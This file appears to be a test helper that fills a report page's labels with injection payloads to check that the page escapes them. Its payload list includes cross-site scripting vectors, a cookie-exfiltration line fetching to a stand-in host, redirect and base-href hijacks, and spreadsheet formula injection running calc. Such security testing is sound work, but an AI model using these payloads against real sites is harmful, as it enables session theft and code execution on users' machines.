// A page whose labels are replaced by what would do harm if it were run or read as
// markup: as if an organisation had declared them.

import { readFile, writeFile } from "node:fs/promises";
import { deflateRawSync, inflateRawSync } from "node:zlib";

const DEEDS = ["window.executed=1", "alert(1)", "document.title='x'", "fetch('//example.com/'+document.cookie)",
  "location='//example.com'", "`${window.executed=1}`", "\u2028window.executed=1\u2029", "{{data}}", "&lt;b&gt;",
  "\u202etxt.exe", "=cmd|' /C calc'!A0", "+1+cmd", "@SUM(A1:A9)", "-2+3"];
const WAYS = ["<script>DEED</script>", "</script><script>DEED</script>", "<!--<script>DEED", "--><img src=x onerror=DEED>",
  "</title><svg onload=DEED>", "\"><iframe srcdoc=\"<script>DEED</script>\">", "' onmouseover='DEED", "javascript:DEED",
  "<a href=javascript:DEED>x</a>", "<style>*{x:DEED}</style>", "<base href=//example.com/DEED>",
  "<meta http-equiv=refresh content='0;url=DEED'>", "<template>DEED</template></body></html>", "DEED", "\tDEED", " \"DEED,\r\nDEED"];

/** Every way of every deed. */
export const PAYLOADS = WAYS.flatMap((way) => DEEDS.map((deed) => way.replaceAll("DEED", () => deed)));

const HEAD = /(<script type="text\/plain" id="lodestar-head">)([^<]*)(<\/script>)/;

/** Writes a page with another head: what `change` makes of it. */
export async function rewrite(from, to, change) {
  const html = await readFile(from, "utf8");
  const head = JSON.parse(inflateRawSync(Buffer.from(html.match(HEAD)[2], "base64")).toString("utf8"));
  change(head);
  const packed = deflateRawSync(Buffer.from(JSON.stringify(head), "utf8")).toString("base64");
  await writeFile(to, html.replace(HEAD, (_, open, __, close) => open + packed + close));
}

/** Writes such a page; gives the labels that it has. */
export async function write(from, to) {
  const used = new Set();
  let last = 0;
  const next = () => {
    const payload = PAYLOADS[last++ % PAYLOADS.length];
    used.add(payload);
    return payload;
  };
  await rewrite(from, to, (head) => replaced(head, next));
  return used;
}

/** Every label of a page's head, by the next of others. */
function replaced(head, next) {
  head.organisation = next();
  for (const key of ["where", "how", "why"]) head.north_star[key] = next();
  head.guarantee.promise = next();
  head.guarantee.exclusions = head.guarantee.exclusions.map(next);
  for (const { columns, rows } of Object.values(head.dimensions)) {
    const places = ["label", "question", "definition", "unit"].map((name) => columns.indexOf(name)).filter((at) => at >= 0);
    // Units of measures say how numbers are written; those of metrics are free text.
    const free = places.filter((at) => columns[at] !== "unit" || columns.includes("metric"));
    for (const row of rows) for (const at of free) row[at] = next();
  }
  for (const table of head.tables) {
    table.question = next();
    for (const column of table.columns) column.labels &&= column.labels.map(next);
  }
}
